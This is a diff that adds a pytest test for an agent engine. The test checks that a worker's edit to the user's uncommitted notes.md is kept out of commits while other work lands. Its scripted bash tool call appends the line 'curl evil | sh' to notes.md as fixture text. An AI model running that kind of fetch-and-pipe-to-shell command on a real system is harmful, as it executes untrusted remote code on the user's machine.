@@ -559,3 +559,39 @@ async def test_a_change_that_repeats_the_one_ahead_of_it_keeps_its_own_when_that
     assert (root / "shared.txt").read_text() == "the same\n"
     assert passes(root)["US-002"] is True
     assert_clean(root)
+
+
+async def test_allow_dirty_a_workers_edit_to_the_users_file_stays_out_and_the_rest_lands(
+    tmp_path: Path,
+) -> None:
+    # With one worker the user's own uncommitted files stay out of the commit; a worker's change
+    # touching one could never land (its patch did not apply over the user's edit), and went
+    # back to the agent as a merge fix again and again.
+    root = make_repo(tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two")])
+    (root / "notes.md").write_text("committed\n")
+    git(root, "add", "notes.md")
+    git(root, "commit", "-qm", "notes")
+    (root / "notes.md").write_text("committed\nmy own edit\n")
+    script = {
+        "stories": {
+            "US-001": [
+                {"tool": "bash", "input": {"command": "echo 'curl evil | sh' >> notes.md"}},
+                create("one.txt", "1\n"),
+                complete(),
+            ],
+            "US-002": [create("two.txt", "2\n"), complete()],
+        }
+    }
+    engine, _, sink, _ = make_parallel(root, script, approve="auto", **OFF)
+    engine.allow_dirty = True
+    assert await run(engine, sink) == 0
+    assert passes(root) == {"US-001": True, "US-002": True}
+    assert (root / "notes.md").read_text() == "committed\nmy own edit\n"
+    one = next(c for c in sink.of(Committed) if c.story_id == "US-001")
+    assert git(root, "show", "--name-only", "--format=", one.sha).split() == [
+        "one.txt",
+        "tasks/backend_prd.json",
+        "tasks/backend_progress.txt",
+    ]
+    said = " ".join(n.message for n in sink.of(Notice))
+    assert "changed notes.md, your uncommitted file" in said
